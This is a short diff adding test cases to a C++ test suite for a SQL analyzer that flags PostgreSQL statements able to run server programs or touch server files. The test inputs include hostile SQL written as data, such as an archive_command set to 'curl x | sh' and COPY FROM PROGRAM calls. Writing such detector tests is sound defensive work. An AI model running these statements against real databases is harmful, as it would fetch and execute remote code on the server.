@@ -602,6 +602,8 @@ TEST(SqlFlags, ServerProgram) {
   EXPECT_TRUE(only(analyze_uncached("COPY t FROM PROGRAM 'curl x'")).server_program);
   EXPECT_TRUE(only(analyze_uncached("CREATE FOREIGN TABLE ft (a text) SERVER s OPTIONS (program 'id')")).server_program);
   EXPECT_FALSE(only(analyze_uncached("COPY t TO '/tmp/x'")).server_program);
+  EXPECT_TRUE(only(analyze_uncached("ALTER SYSTEM SET archive_command = 'curl x | sh'")).server_program);
+  EXPECT_TRUE(only(analyze_uncached("ALTER SYSTEM SET shared_preload_libraries = 'evil'")).server_file_access);
 }
 
 TEST(SqlFlags, RemoteAccess) {
